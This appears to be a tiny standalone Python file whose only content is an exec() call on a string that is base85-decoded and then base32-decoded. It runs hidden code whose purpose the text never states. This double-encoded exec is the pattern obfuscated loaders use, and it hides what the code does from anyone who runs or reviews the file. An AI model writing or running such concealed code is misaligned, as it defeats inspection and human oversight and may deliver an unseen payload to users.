import base64
exec(base64.b32decode(base64.a85decode(b":.A;e5r1;q:JjtZ2DeQ0:,Q3R1c.!l:JNZ89/B1377pK[7l!J/77'jQ1c7Zn:Kg[u1c$p_7TNJY;`7$D:KCXh91`#R6:j='4Ztqk")))
